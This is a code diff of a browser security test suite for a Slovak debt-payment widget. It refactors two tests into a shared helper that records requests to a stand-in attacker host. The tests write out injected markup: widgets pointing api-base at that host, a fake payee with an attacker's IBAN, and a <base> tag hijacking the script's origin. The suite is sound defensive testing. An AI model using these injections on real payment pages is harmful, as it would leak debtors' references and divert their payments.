@@ -62,6 +62,32 @@ const configScript = (index: number) =>
 const element = (reference: string, attributes = "") =>
   `<debt-notice reference="${reference}" api-base="/api/2/union-debt" captcha-site-key="demo-site-key" captcha-src="/captcha/api.js"${attributes}>${demoConfigJsonChild()}</debt-notice>`;
 
+/**
+ * The standalone page's address (path routing) serving `body` after the widget's deferred script,
+ * with every request to the attacker's site recorded (and answered empty).
+ */
+async function pathRoutedPage(browser: Browser, body: string) {
+  await resetGateway();
+  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+  const toAttacker: string[] = [];
+  await context.route(`${EVIL}/**`, (route, request) => {
+    toAttacker.push(new URL(request.url()).pathname);
+    return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
+  });
+  await context.route("**/dlh/a1b2c3-man-high", (route) =>
+    route.fulfill({
+      contentType: "text/html",
+      body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
+          <script src="/dist/debt-notice.umd.js" defer></script></head><body>
+          ${body}
+          </body></html>`,
+    }),
+  );
+  const page = await context.newPage();
+  await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
+  return { context, page, toAttacker };
+}
+
 /** The QR code as a banking app reads it: the drawn path -> pixels -> the payment it orders. */
 async function scannedPayment(page: Page) {
   const path = page.locator("svg.dn-pbs__svg path");
@@ -304,27 +330,13 @@ describe("security: what injected markup and changed answers cannot do", () => {
   // <debt-notice> that sent the reference from the page's address to its own gateway, or showed
   // the debtor's name and amount with an IBAN of its own.
   it("markup injected beside a path-routed widget: no request to another gateway, no IBAN of the attacker's", async () => {
-    await resetGateway();
-    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
-    const toAttacker: string[] = [];
-    await context.route(`${EVIL}/**`, (route, request) => {
-      toAttacker.push(new URL(request.url()).pathname);
-      return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
-    });
     const fakePayee = `<script type="application/json">{"payee":{"iban":"SK6807200002891987426353","beneficiaryName":"Platby s.r.o."}}</script>`;
-    await context.route("**/dlh/a1b2c3-man-high", (route) =>
-      route.fulfill({
-        contentType: "text/html",
-        body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
-          <script src="/dist/debt-notice.umd.js" defer></script></head><body>
-          <debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api" style="display:none"></debt-notice>
+    const { context, page, toAttacker } = await pathRoutedPage(
+      browser(),
+      `<debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api" style="display:none"></debt-notice>
           <debt-notice routing="path" base-path="/dlh/">${fakePayee}</debt-notice>
-          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(2)}
-          </body></html>`,
-      }),
+          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(2)}`,
     );
-    const page = await context.newPage();
-    await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
     await page.evaluate(() => customElements.whenDefined("debt-notice"));
     // Mounting is a microtask after definition, a request is on its way within a task: a frame covers both.
     await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 200))));
@@ -340,26 +352,12 @@ describe("security: what injected markup and changed answers cannot do", () => {
   // path made the based URL "fetched", so the UMD took the attacker's origin for its own: an
   // api-base there was allowed without listing, and the reference went to it.
   it("a <base> and an <img> of the script's path cannot make the attacker's origin the script's", async () => {
-    await resetGateway();
-    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
-    const toAttacker: string[] = [];
-    await context.route(`${EVIL}/**`, (route, request) => {
-      toAttacker.push(new URL(request.url()).pathname);
-      return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
-    });
-    await context.route("**/dlh/a1b2c3-man-high", (route) =>
-      route.fulfill({
-        contentType: "text/html",
-        body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
-          <script src="/dist/debt-notice.umd.js" defer></script></head><body>
-          <base href="${EVIL}/"><img src="/dist/debt-notice.umd.js" alt="">
+    const { context, page, toAttacker } = await pathRoutedPage(
+      browser(),
+      `<base href="${EVIL}/"><img src="/dist/debt-notice.umd.js" alt="">
           <debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api"></debt-notice><!--
-          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(1)}
-          </body></html>`,
-      }),
+          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(1)}`,
     );
-    const page = await context.newPage();
-    await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
     await page.evaluate(() => customElements.whenDefined("debt-notice"));
     await expect
       .poll(() =>
